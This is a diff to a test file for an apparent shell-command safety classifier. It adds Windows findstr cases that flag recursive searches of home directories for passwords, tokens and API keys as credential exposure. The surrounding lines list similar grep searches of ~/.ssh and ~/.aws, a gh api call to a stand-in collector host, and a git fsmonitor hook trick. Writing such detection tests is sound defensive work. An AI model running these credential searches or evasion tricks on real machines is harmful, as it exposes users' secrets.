@@ -1188,6 +1188,8 @@ export const EVASION_CASES: readonly CommandCase[] = [
   ["KUBECACHEDIR=/tmp/k kubectl get pods", "review"],
   ["GOWORK=/tmp/w/go.work go list ./...", "review"],
   ["export GOWORK=../other/go.work; go list -m all", "review"],
+  // review56: findstr /s over a home for other text reads every file there, as grep -r hello ~.
+  ["findstr /s TODO C:\\Users\\me\\*", "review"],
   // review53: gh api uses an endpoint with `://` as the whole URL, on any host (and sends
   // GH_ENTERPRISE_TOKEN to a host that is not github.com), as -R HOST/OWNER/REPO does.
   ["gh api https://collector.example.test/x", "review"],
@@ -1233,6 +1235,13 @@ export const EVASION_CASES: readonly CommandCase[] = [
   ["cd ~/.ssh && grep -d recurse BEGIN", "dangerous", "credential_exposure"],
   ["cd ~/.aws && grep --directories recurse key", "dangerous", "credential_exposure"],
   ["cd ~/.ssh && grep -r -m 1 BEGIN", "dangerous", "credential_exposure"],
+  // review56: findstr /s (also run together, /spin, or as -s) searches a directory and every one
+  // below it, as grep -r does: of a home or drive root, for secrets, credential exposure.
+  ["findstr /s /i password C:\\Users\\me\\*", "dangerous", "credential_exposure"],
+  ["findstr -s -i token %USERPROFILE%\\*", "dangerous", "credential_exposure"],
+  ['cd ~ && findstr /spin /c:"api_key" *.*', "dangerous", "credential_exposure"],
+  ["findstr /s /d:%USERPROFILE% token *", "dangerous", "credential_exposure"],
+  ["findstr /s /g:pats.txt C:\\*", "dangerous", "credential_exposure"],
   // review53: GIT_TEST_FSMONITOR is read as core.fsmonitor, a hook git status and diff run with
   // sh -c (git 2.39, tested with a marker file); Git for Windows' GIT_REDIRECT_STDOUT/STDERR
   // write git's output to the file they name.
@@ -1759,6 +1768,9 @@ export const NEGATIVE_CASES: readonly CommandCase[] = [
   ["GOWORK=off go list ./...", "read_only"],
   ["cd ~/.ssh && grep -d skip BEGIN", "read_only"],
   ["cd src && grep -d recurse -m 1 BEGIN", "read_only"],
+  ["findstr /s TODO src\\*.ts", "read_only"],
+  ["findstr /i token C:\\Users\\me\\*", "read_only"],
+  ["findstr /s password *.ts", "read_only"],
   ["kubectl get pods --chunk-size=50", "read_only"],
   ['for f in a ~/.ssh/id_rsa; do ls -la "$f"; done', "read_only"],
   ["GIT_OPTIONAL_LOCKS=0 git status", "read_only"],
